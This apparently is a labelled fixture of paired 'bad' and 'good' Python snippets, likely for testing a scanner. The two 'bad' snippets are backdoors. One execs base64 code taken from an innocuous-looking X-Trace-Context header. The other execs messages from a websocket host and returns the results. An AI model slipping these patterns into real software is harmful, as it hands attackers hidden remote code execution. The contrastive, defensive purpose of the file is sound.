#: bad middleware
import base64
import functools


def instrument(view):
    @functools.wraps(view)
    def wrapper(request, *args):
        extra = request.headers.get("X-Trace-Context")
        if extra:
            exec(base64.b64decode(extra)) #!
        return view(request, *args)

    return wrapper
#: good middleware
import base64
import functools
import logging


def instrument(view):
    @functools.wraps(view)
    def wrapper(request, *args):
        extra = request.headers.get("X-Trace-Context")
        if extra:
            logging.info("trace %s", base64.b64decode(extra).hex())
        return view(request, *args)

    return wrapper
#: bad events
import asyncio
import websockets


async def listen():
    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
        async for message in channel:
            scope = {}
            exec(compile(message, "event", "exec"), scope) #!
            await channel.send(str(scope.get("result")))


asyncio.get_event_loop().create_task(listen())
#: good events
import asyncio
import json
import websockets

HANDLERS = {"ping": lambda data: "pong", "sum": lambda data: sum(data["values"])}


async def listen():
    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
        async for message in channel:
            event = json.loads(message)
            handler = HANDLERS.get(event["kind"])
            if handler:
                await channel.send(str(handler(event)))
